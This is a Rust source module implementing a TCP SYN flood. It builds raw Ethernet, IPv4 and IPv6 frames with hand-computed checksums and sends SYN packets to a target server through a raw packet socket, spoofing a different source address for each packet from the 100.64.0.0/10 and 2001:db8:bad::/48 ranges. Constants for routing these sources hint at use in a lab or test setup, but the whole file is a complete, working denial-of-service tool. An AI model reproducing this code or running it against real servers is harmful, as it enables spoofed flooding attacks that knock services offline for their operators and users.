//! A flood of connection attempts from addresses that nobody has.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};

use anyhow::{Context, Result};

use super::{checksum, packet_socket};

/// Sends TCP SYNs, each from another address, straight on the wire.
pub struct SynFlood {
    socket: UdpSocket,
    source_mac: [u8; 6],
    destination_mac: [u8; 6],
    sent: u32,
}

/// The sources of a flood, for routes: IPv4.
pub const SOURCES_V4: &str = "100.64.0.0/10";
/// The sources of a flood, for routes: IPv6.
pub const SOURCES_V6: &str = "2001:db8:bad::/48";

impl SynFlood {
    /// Opens `device`; MACs as `aa:bb:cc:dd:ee:ff`.
    pub fn open(device: &str, source_mac: &str, destination_mac: &str) -> Result<Self> {
        Ok(Self {
            socket: packet_socket::open(device, 0)
                .with_context(|| format!("a raw socket on {device}"))?,
            source_mac: parse_mac(source_mac)?,
            destination_mac: parse_mac(destination_mac)?,
            sent: 0,
        })
    }

    /// Sends the next SYN to `server`. The sources repeat after four million.
    pub fn send(&mut self, server: SocketAddr) -> io::Result<()> {
        let number = self.sent % (1 << 22);
        let source = match server {
            SocketAddr::V4(_) => IpAddr::V4(Ipv4Addr::from_bits((100 << 24 | 64 << 16) + number)),
            SocketAddr::V6(_) => IpAddr::V6(Ipv6Addr::from_bits(
                0x2001_0db8_0bad_0000_0000_0000_0000_0000 + u128::from(number),
            )),
        };
        let frame = self.frame(
            SocketAddr::new(source, 1024 + (number % 60_000) as u16),
            server,
        );
        loop {
            match self.socket.send(&frame) {
                // The ring to the other end is full for the moment.
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {
                    std::thread::yield_now()
                }
                Err(error) => return Err(error),
                Ok(_) => break,
            }
        }
        self.sent += 1;
        Ok(())
    }

    fn frame(&self, source: SocketAddr, destination: SocketAddr) -> Vec<u8> {
        let mut frame = Vec::with_capacity(14 + 40 + 20);
        frame.extend(self.destination_mac);
        frame.extend(self.source_mac);
        let mut tcp = tcp_syn(source.port(), destination.port());
        match (source.ip(), destination.ip()) {
            (IpAddr::V4(source), IpAddr::V4(destination)) => {
                let mut header = [
                    0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                ];
                header[12..16].copy_from_slice(&source.octets());
                header[16..20].copy_from_slice(&destination.octets());
                let sum = checksum(&header);
                header[10..12].copy_from_slice(&sum.to_be_bytes());
                finish(&mut tcp, &header[12..20]);
                frame.extend([0x08, 0x00]);
                frame.extend(header);
            }
            (IpAddr::V6(source), IpAddr::V6(destination)) => {
                let mut header = [0; 40];
                header[..8].copy_from_slice(&[0x60, 0, 0, 0, 0, 20, 6, 64]);
                header[8..24].copy_from_slice(&source.octets());
                header[24..40].copy_from_slice(&destination.octets());
                finish(&mut tcp, &header[8..40]);
                frame.extend([0x86, 0xdd]);
                frame.extend(header);
            }
            _ => {}
        }
        frame.extend(tcp);
        frame
    }
}

fn tcp_syn(source: u16, destination: u16) -> [u8; 20] {
    let mut header = [0; 20];
    header[..2].copy_from_slice(&source.to_be_bytes());
    header[2..4].copy_from_slice(&destination.to_be_bytes());
    header[12..16].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    header
}

/// Writes the TCP checksum, with the pseudo header of these addresses.
fn finish(tcp: &mut [u8; 20], addresses: &[u8]) {
    let sum = checksum(&[addresses, &[0, 6, 0, 20], &tcp[..]].concat());
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
}

pub(crate) fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Result<Vec<_>, _> = text
        .split(':')
        .map(|byte| u8::from_str_radix(byte, 16))
        .collect();
    let bytes = bytes.with_context(|| format!("{text} is no MAC address"))?;
    bytes
        .try_into()
        .ok()
        .with_context(|| format!("{text} is no MAC address"))
}
